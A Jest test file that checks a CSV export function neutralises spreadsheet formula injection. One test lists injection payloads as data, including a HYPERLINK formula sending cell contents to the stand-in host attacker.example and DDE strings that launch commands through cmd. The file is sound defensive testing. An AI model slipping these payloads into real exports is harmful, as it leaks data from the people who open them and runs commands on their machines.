import { csvCell } from '../../../src/triage/csv'

describe('CSV cells a spreadsheet could run as formulas', () => {
  it.each([
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '|calc',
    '%0A=1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1',
    '＠SUM(A1)',
  ])('shows %j as text', value => {
    const cell = csvCell(value)
    expect(cell.startsWith(`"'`)).toBe(true)
  })

  it.each(['Rose Court care home', 'St Mary’s, ward 3', 'A&E', '999 was called'])('leaves %j as it is', value => {
    expect(csvCell(value)).toBe(`"${value}"`)
  })

  it('keeps numbers as numbers and doubles quotes', () => {
    expect(csvCell(-3)).toBe('"-3"')
    expect(csvCell('say "hello"')).toBe('"say ""hello"""')
  })
})

describe('every other cell', () => {
  it.each([
    [undefined, '""'],
    [null, '""'],
    ['', '""'],
    [true, '"true"'],
    [0, '"0"'],
    [new Date('2025-06-18T10:00:00Z'), '"2025-06-18T10:00:00.000Z"'],
    // Line breaks, commas and emoji inside the text stay inside one quoted cell.
    ['line one\nline two, with a comma', '"line one\nline two, with a comma"'],
    ['😀 <b>bold</b>', '"😀 <b>bold</b>"'],
    ['شكرا', '"شكرا"'],
  ])('%j is %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell)
  })
})
